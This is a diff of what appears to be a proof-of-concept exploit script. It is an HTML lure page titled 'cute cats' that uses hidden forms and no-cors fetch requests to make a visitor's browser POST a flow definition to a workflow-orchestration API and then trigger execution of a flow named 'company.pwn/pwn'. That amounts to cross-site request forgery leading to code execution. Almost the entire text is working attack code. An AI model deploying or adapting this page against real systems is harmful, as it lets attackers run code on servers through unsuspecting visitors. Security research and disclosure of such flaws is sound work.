@@ -29,8 +29,10 @@ tasks:
 """
 PAGE = """<!doctype html><title>cute cats</title>
 <iframe name="sink"></iframe>
-<form id="plain" target="sink" method="POST" enctype="text/plain" action="{api}/flows"><input name="{flow_name}" value="{flow_value}"></form>
-<form id="run" target="sink" method="POST" action="{api}/executions/company.pwn/pwn?wait=true"><input name="a" value="b"></form>
+<form id="plain" target="sink" method="POST" enctype="text/plain" action="{api}/flows">
+<input name="{flow_name}" value="{flow_value}"></form>
+<form id="run" target="sink" method="POST" action="{api}/executions/company.pwn/pwn?wait=true">
+<input name="a" value="b"></form>
 <script>
 const api = {api_js};
 const flow = {flow_js};
@@ -40,7 +42,8 @@ async function attack() {{
   const tries = [
     () => fetch(api + "/flows", {{method: "POST", mode: "no-cors", body: flow}}),
     () => fetch(api + "/flows", {{method: "POST", mode: "no-cors", body: new Blob([flow])}}),
-    () => fetch(api + "/executions/company.pwn/pwn?wait=true", {{method: "POST", mode: "no-cors", body: new FormData()}}),
+    () => fetch(api + "/executions/company.pwn/pwn?wait=true",
+          {{method: "POST", mode: "no-cors", body: new FormData()}}),
     () => fetch(api + "/executions/company.pwn/pwn?wait=true", {{method: "POST", mode: "no-cors",
           body: new URLSearchParams({{a: "b"}})}}),
   ];
